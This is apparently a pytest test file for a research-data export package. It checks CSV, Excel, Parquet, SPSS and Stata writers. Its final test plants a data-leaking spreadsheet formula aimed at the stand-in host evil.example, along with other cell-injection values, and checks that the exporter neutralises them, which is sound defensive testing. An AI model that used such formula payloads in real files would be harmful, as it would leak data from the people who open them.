"""Every writer on a small project, read back with the tools analysts use."""

from __future__ import annotations

import subprocess
import zipfile
from pathlib import Path

import pandas as pd
import pyreadstat
import pytest
from openpyxl import load_workbook

from analysis.datasets import Dataset, DatasetError
from analysis.writers import WRITERS, export, write_csv, write_parquet, write_xlsx
from analysis.writers.stats import write_dta, write_sav


def test_registry_covers_every_format(small_ds: Dataset, tmp_path: Path) -> None:
    assert set(WRITERS) == {"csv", "xlsx", "parquet", "sav", "dta", "qdpx", "qdc"}
    with pytest.raises(ValueError, match="unknown export format 'pdf'"):
        export(small_ds, "pdf", tmp_path / "x.pdf")


def test_csv_folder_has_long_wide_and_dictionary(small_ds: Dataset, tmp_path: Path) -> None:
    out = tmp_path / "csv"
    write_csv(small_ds, out)
    names = {p.name for p in out.iterdir()}
    assert {
        "answers_long.csv",
        "answers_wide.csv",
        "cases.csv",
        "codings.csv",
        "matrix_code_count.csv",
        "dictionary.csv",
        "dictionary.md",
    } <= names
    transcripts = pd.read_csv(out / "transcripts.csv", encoding="utf-8")
    assert transcripts["text"].tolist() == small_ds.transcripts["text"].tolist()
    codings = pd.read_csv(out / "codings.csv")
    first = small_ds.codings.iloc[0]["created_dt"]
    assert codings.loc[0, "created_dt"] == first.strftime("%Y-%m-%dT%H:%M:%SZ")
    dictionary = pd.read_csv(out / "dictionary.csv")
    assert "a5_proximite" in set(dictionary["variable"])
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".")]


def test_csv_zip_and_table_choice(small_ds: Dataset, tmp_path: Path) -> None:
    write_csv(small_ds, tmp_path / "x.zip", tables=["codings", "answers_wide"])
    with zipfile.ZipFile(tmp_path / "x.zip") as archive:
        assert set(archive.namelist()) == {
            "codings.csv",
            "answers_wide.csv",
            "dictionary.csv",
            "dictionary_tables.csv",
            "dictionary.md",
        }
        columns = pd.read_csv(archive.open("dictionary_tables.csv"))
    coder = columns.query("table == 'codings' and column == 'coder'")
    assert coder["description"].tolist() == ["coder username"]
    assert set(columns["table"]) == {"codings", "answers_wide"}
    with pytest.raises(DatasetError, match="unknown table 'nope'"):
        write_csv(small_ds, tmp_path / "y.zip", tables=["nope"])
    assert not (tmp_path / "y.zip").exists()


def test_parquet_round_trip(small_ds: Dataset, tmp_path: Path) -> None:
    write_parquet(small_ds, tmp_path / "pq")
    codings = pd.read_parquet(tmp_path / "pq" / "codings.parquet")
    assert codings[["coding_id", "start", "end", "code", "coder"]].equals(
        small_ds.codings[["coding_id", "start", "end", "code", "coder"]]
    )
    assert (tmp_path / "pq" / "dictionary.csv").exists()


def test_xlsx_sheets_and_dictionary(small_ds: Dataset, tmp_path: Path) -> None:
    write_xlsx(small_ds, tmp_path / "x.xlsx")
    book = load_workbook(tmp_path / "x.xlsx", read_only=True)
    assert {"cases", "codings", "answers_long", "answers_wide", "dictionary"} <= set(
        book.sheetnames
    )
    header = next(book["dictionary"].iter_rows(values_only=True))
    assert header[:5] == ("variable", "label_fr", "label_en", "type", "allowed_values")
    rows = list(book["codings"].iter_rows(values_only=True))
    interviews = list(book["interviews"].iter_rows(values_only=True))
    book.close()
    assert len(rows) == len(small_ds.codings) + 1
    assert rows[1][:6] == tuple(
        small_ds.codings.iloc[0][
            ["coding_id", "interview_id", "transcript_id", "start", "end", "code"]
        ]
    )
    created = rows[1][rows[0].index("created_dt")]
    assert created == small_ds.codings.iloc[0]["created_dt"].replace(tzinfo=None)
    when = interviews[1][interviews[0].index("interview_date")]
    assert when.date() == small_ds.interviews.iloc[0]["interview_date"]


def test_xlsx_escapes_markup_and_control_characters(small_ds: Dataset, tmp_path: Path) -> None:
    answers = small_ds.answers_long.copy()
    answers.loc[0, "value"] = 'R&D <export>\x0b "ok"'
    small_ds.answers_long = answers
    write_xlsx(small_ds, tmp_path / "x.xlsx", tables=["answers_long"])
    sheet = pd.read_excel(tmp_path / "x.xlsx", sheet_name="answers_long")
    assert sheet.loc[0, "value"] == 'R&D <export> "ok"'


def test_failed_write_leaves_nothing(
    small_ds: Dataset, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def boom(*args: object, **kwargs: object) -> None:
        raise RuntimeError("disk full")

    monkeypatch.setattr(pyreadstat, "write_sav", boom)
    with pytest.raises(RuntimeError):
        write_sav(small_ds, tmp_path / "x.sav", dictionary=False)
    assert list(tmp_path.iterdir()) == []


def _first_missing(ds: Dataset, kind: str) -> tuple[int, str]:
    row = ds.answers_long.query(
        "missing == @kind and question_key != 'a1_parcours' and question_key != 'b1_mission'"
    ).iloc[0]
    return int(row.interview_id), str(row.question_key)


def test_sav_labels_and_user_missing_with_pyreadstat(small_ds: Dataset, tmp_path: Path) -> None:
    paths = write_sav(small_ds, tmp_path / "x.sav")
    assert {p.name for p in paths} == {
        "x.sav",
        "x_dictionary.csv",
        "x_dictionary_tables.csv",
        "x_dictionary.md",
    }
    assert "## Tables and columns" in (tmp_path / "x_dictionary.md").read_text("utf-8")
    data, meta = pyreadstat.read_sav(tmp_path / "x.sav", user_missing=True)
    labels = meta.column_names_to_labels
    assert labels["a6_doublons"] == "Il y a trop de structures qui proposent la même chose."
    assert meta.variable_value_labels["a5_proximite"][5.0] == "Tout à fait d'accord"
    assert meta.variable_value_labels["a5_proximite"][-98.0] == "Ne sait pas"
    assert meta.variable_value_labels["a2_mode"][2.0] == "Agent"
    assert {r["lo"] for r in meta.missing_ranges["a4_frequence"]} == {-97.0, -98.0, -99.0}
    relay = small_ds.interviews.query("respondent_type == 'relay'")["interview_id"].iloc[0]
    row = data.set_index("interview_id").loc[float(relay)]
    assert row["a5_proximite"] == -99.0
    assert data["a1_parcours"].map(type).eq(str).all()
    system, _ = pyreadstat.read_sav(tmp_path / "x.sav")
    assert system.set_index("interview_id").loc[float(relay), "a5_proximite"] != -99.0


def test_sav_opens_in_pspp(small_ds: Dataset, tmp_path: Path, pspp: str) -> None:
    write_sav(small_ds, tmp_path / "x.sav", dictionary=False)
    syntax = tmp_path / "check.sps"
    syntax.write_text(
        f"GET FILE='{tmp_path / 'x.sav'}'.\n"
        "DISPLAY DICTIONARY /VARIABLES=a5_proximite a2_mode a3_appuis_cci.\n"
        "FREQUENCIES VARIABLES=a5_proximite.\n",
        encoding="utf-8",
    )
    result = subprocess.run(
        [pspp, "-O", "format=csv", "-o", str(tmp_path / "out.csv"), str(syntax)],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert result.returncode == 0, result.stderr
    assert "warning" not in (result.stdout + result.stderr).lower()
    out = (tmp_path / "out.csv").read_text(encoding="utf-8")
    assert "J'ai un interlocuteur identifié et proche." in out
    assert "-99; -98; -97" in out
    assert "Tout à fait d'accord" in out and "Export direct" in out
    assert "-99[a],Non posée" in out and "-97[a],Refus de répondre" in out
    assert "a. User-missing value" in out
    assert "Missing,Non posée" in out


def test_dta_labels_and_extended_missing_with_pandas(small_ds: Dataset, tmp_path: Path) -> None:
    write_dta(small_ds, tmp_path / "x.dta")
    with pd.io.stata.StataReader(tmp_path / "x.dta") as reader:
        data = reader.read(convert_missing=True, convert_categoricals=False)
        var_labels, value_labels = reader.variable_labels(), reader.value_labels()
    assert var_labels["a5_proximite"] == "J'ai un interlocuteur identifié et proche."
    assert any(labels.get(5) == "Tout à fait d'accord" for labels in value_labels.values())
    relay = small_ds.interviews.query("respondent_type == 'relay'")["interview_id"].iloc[0]
    cell = data.set_index("interview_id").loc[relay, "a5_proximite"]
    assert isinstance(cell, pd.io.stata.StataMissingValue) and cell.string == ".c"
    interview, key = (
        _first_missing(small_ds, "refused")
        if (small_ds.answers_long["missing"] == "refused").any()
        else (None, None)
    )
    if interview is not None and not key.startswith("a3_"):
        cell = data.set_index("interview_id").loc[interview, key]
        assert cell.string == ".a"


@pytest.mark.parametrize("fmt", sorted(WRITERS))
def test_every_writer_handles_an_empty_project(fmt: str, tmp_path: Path) -> None:
    paths = WRITERS[fmt](Dataset(), tmp_path / f"empty.{fmt}")
    assert paths and all(p.exists() for p in paths)


def test_folder_export_never_replaces_a_foreign_folder(small_ds: Dataset, tmp_path: Path) -> None:
    documents = tmp_path / "documents"
    documents.mkdir()
    (documents / "thesis.docx").write_text("precious")
    with pytest.raises(FileExistsError, match="not a Milieu export"):
        write_csv(small_ds, documents)
    assert (documents / "thesis.docx").read_text() == "precious"
    write_csv(small_ds, tmp_path / "export")
    write_csv(small_ds, tmp_path / "export", tables=["codings"])  # an earlier export: replaced
    assert {p.name for p in (tmp_path / "export").iterdir()} == {
        "codings.csv",
        "dictionary.csv",
        "dictionary_tables.csv",
        "dictionary.md",
    }


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(
    small_ds: Dataset, tmp_path: Path
) -> None:
    import csv

    formula = '=HYPERLINK("http://evil.example/?"&A1,"Voir")'
    orgs = small_ds.organisations.copy()
    orgs.loc[orgs.index[0], "name"] = formula
    orgs.loc[orgs.index[1], "name"] = "-2+3"
    orgs.loc[orgs.index[2], "name"] = "\tcmd"
    small_ds.organisations = orgs
    answers = small_ds.answers_long.copy()
    free = answers.index[answers["question_key"].eq("a1_parcours") & answers["value"].notna()]
    answers.loc[free[0], "value"] = "@SUM(1+1)"
    answers.loc[free[1], "value"] = "-12.5"  # a number stays a number
    small_ds.answers_long = answers
    out = tmp_path / "csv"
    write_csv(small_ds, out)

    with open(out / "organisations.csv", encoding="utf-8", newline="") as handle:
        names = [row["name"] for row in csv.DictReader(handle)]
    assert names[:3] == ["'" + formula, "'-2+3", "'\tcmd"]
    with open(out / "answers_wide.csv", encoding="utf-8", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert "'@SUM(1+1)" in cells and "@SUM(1+1)" not in cells
    assert "-12.5" in cells and "'-12.5" not in cells
    assert not [c for c in cells if c[:1] in ("=", "@", "+", "\t", "\r")]
    assert "starts with an apostrophe" in (out / "dictionary.md").read_text(encoding="utf-8")
